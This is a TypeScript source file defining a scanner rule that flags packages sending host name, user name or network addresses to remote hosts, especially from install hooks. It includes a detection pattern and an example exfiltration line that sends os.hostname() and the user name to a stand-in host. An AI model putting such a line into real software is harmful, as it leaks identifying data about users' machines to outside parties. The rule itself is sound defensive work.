import { isLocalHost } from "../hosts.ts";
import type { Rule, Sighting } from "../rule.ts";
import type { LensView } from "../view.ts";
import { placeOf } from "../view.ts";
import type { Use } from "../../program/uses.ts";

/** Facts that say which machine and which person this is, not only what kind of machine. */
const TELLING =
  /os\.(?:hostname|userInfo|networkInterfaces)|USERNAME|LOGNAME|env\.USER\b|COMPUTERNAME/;

export const sendsHostFacts: Rule = {
  id: "sends-host-facts",
  title: "Tells somebody which machine this is",
  why:
    "Host name, user name and addresses of the network are what the first message of an intruder " +
    "holds, and what dependency-confusion probes report. Telemetry does without them, and waits until it is used.",
  example:
    'https.get("https://collect.invalid/?h=" + os.hostname() + "&u=" + os.userInfo().username);',
  advice:
    "Find out who runs that address before you install it; an install hook has no use for it.",
  severity: "high",
  confidence: "medium",
  look: (view) => view.sends.flatMap((use) => sightingOf(use, view)),
};

function sightingOf(use: Use, view: LensView): readonly Sighting[] {
  const sendings = view
    .sendingsOf(use, "host-facts", "environment")
    .filter(({ flow, host }) => TELLING.test(flow.what) && !isLocalHost(host));
  const [first] = sendings;
  if (first === undefined) return [];
  const distinct = new Set(sendings.map(({ flow }) => TELLING.exec(flow.what)?.[0]));
  const atInstall = view.isAtInstall(use.module);
  if (!atInstall && distinct.size < 2) return [];
  const message = `${[...distinct].join(", ")} of this machine: sent to ${first.host}.`;
  // Honest telemetry waits until it is asked for something.
  const severity = atInstall || view.isRunByImport(use) ? "high" : "medium";
  return [{ place: placeOf(use), message, severity }];
}
